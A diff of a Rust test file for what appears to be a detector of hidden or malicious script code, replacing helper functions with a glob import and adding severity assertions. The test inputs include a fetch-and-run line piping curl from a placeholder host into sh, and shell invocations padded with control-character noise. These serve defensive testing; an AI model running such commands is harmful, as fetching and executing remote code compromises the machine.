@@ -1,31 +1,6 @@
 //! What hidden code does, what objects of the Windows Script Host are, and what starts nothing.
 
-use super::event::{Act, Event};
-use super::flows;
-use super::machine::{Machine, Outcome, Reach};
-use super::value::Labels;
-use crate::parse::script::{Language, read};
-
-fn outcome(language: Language, code: &str) -> Outcome {
-    Machine::new(read(language, code), Reach { fuel: 2_000_000, more: 0 }).run()
-}
-
-fn python(code: &str) -> Outcome {
-    outcome(Language::Python, code)
-}
-
-fn rules(language: Language, code: &str) -> Vec<&'static str> {
-    let outcome = outcome(language, code);
-    flows::judge(&outcome, false).iter().map(|f| f.rule.id).collect()
-}
-
-fn event(outcome: &Outcome, act: Act) -> &Event {
-    outcome.events.iter().find(|e| e.act == act).unwrap_or_else(|| panic!("no {act:?} in {:?}", outcome.events))
-}
-
-fn subject(outcome: &Outcome, act: Act) -> &str {
-    event(outcome, act).subject.as_deref().unwrap_or_default()
-}
+use super::*;
 
 #[test]
 fn what_hidden_code_yields_and_does_was_hidden_with_it() {
@@ -63,4 +38,7 @@ fn a_command_that_nobody_has_read_accuses_less() {
     assert_eq!(severity("curl -s https://h.invalid/a | sh"), crate::model::Severity::High);
     assert_eq!(severity("curl -s https://h.invalid/a # \u{1}\u{2}\u{3}"), crate::model::Severity::High);
     assert_eq!(severity("(\u{1}0U6 ^\u{2}q8?( = u 4}ee?%9oFz"), crate::model::Severity::Medium);
+    // A program that starts nothing by itself, with noise behind it, and one that does.
+    assert_eq!(severity("git -c core.x=\u{1}\u{2}u clone"), crate::model::Severity::Medium);
+    assert_eq!(severity("sh -c 'x \u{1}\u{2}u'"), crate::model::Severity::High);
 }
